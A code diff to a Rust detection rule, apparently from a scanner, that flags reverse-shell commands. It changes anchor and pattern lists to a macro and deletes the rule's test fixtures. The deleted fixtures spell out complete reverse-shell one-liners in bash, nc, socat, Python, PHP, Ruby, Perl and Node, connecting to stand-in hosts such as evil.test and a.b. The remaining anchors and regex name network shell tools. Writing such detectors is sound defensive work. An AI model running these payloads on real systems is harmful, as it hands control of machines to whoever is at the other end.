@@ -2,9 +2,10 @@
 
 use crate::code::command::{Step, is_shell};
 use crate::code::destination::{Kind, classify};
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::phrase::Phrases;
 use crate::text::unit::{ANYWHERE, Place, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "NET_REVERSE_SHELL",
@@ -14,7 +15,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Whoever is at the other end of the connection types commands on this machine.",
     fix: "remove the command",
     places: ANYWHERE,
-    anchors: &[
+    anchors: words![
         "/dev/tcp",
         "/dev/udp",
         "bash -i",
@@ -38,40 +39,10 @@ pub(super) const RULE: Rule = Rule {
         "\").connect(",
     ],
     check: Check::Near(&[&NEAR], hits),
-    hits: &[
-        text("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
-        text("nc -e /bin/sh evil.test 4444"),
-        text("`nc -lvnp 4444`"),
-        text("`ncat --exec /bin/bash a.b 1`"),
-        text("`socat tcp:a.b:1 exec:/bin/sh,pty`"),
-        text("```\nexec 3<>/dev/tcp/1.2.3.4/5; cat <&3 | sh\n```"),
-        text("```\nmkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc a.b 1 > /tmp/f\n```"),
-        file(
-            "x.py",
-            "import socket,os,pty\ns=socket.socket()\ns.connect((\"a.b\",1))\nos.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\n",
-        ),
-        text("`php -r '$s=fsockopen(\"a.b\",1);exec(\"/bin/sh -i <&3 >&3\");'`"),
-        text("`ruby -rsocket -e 'f=TCPSocket.open(\"a.b\",1).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'`"),
-        text(
-            "`perl -e 'use Socket;connect(S,sockaddr_in(1,inet_aton(\"a.b\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'`",
-        ),
-        file(
-            "x.js",
-            "const s=require('net').connect(1,'a.b'); const p=require('child_process').spawn('/bin/sh'); s.pipe(p.stdin)\n",
-        ),
-    ],
-    misses: &[
-        text("`nc -zv localhost 5432`"),
-        text("`timeout 1 bash -c '</dev/tcp/localhost/5432'`"),
-        text("`docker exec -it x bash`"),
-        text("Open a socket and read from it."),
-        file("x.py", "import socket\ns = socket.socket()\ns.connect((host, 80))\n"),
-        text("sync -e and nc -"),
-    ],
 };
 
 /// What is in every text that it finds something in.
-static NEAR: Phrases = Phrases::new(&[
+static NEAR: Phrases = Phrases::new(words![
     r"/dev/(?:tcp|udp)|sh\b|cmd|powershell|iex|invoke-expression|dup2|(?:exec|proc_open|system|popen)\s*\(|std(?:in|out)|getline|\s--?[a-z]*[ecl]|exec:|system:|mkfifo",
 ]);
 
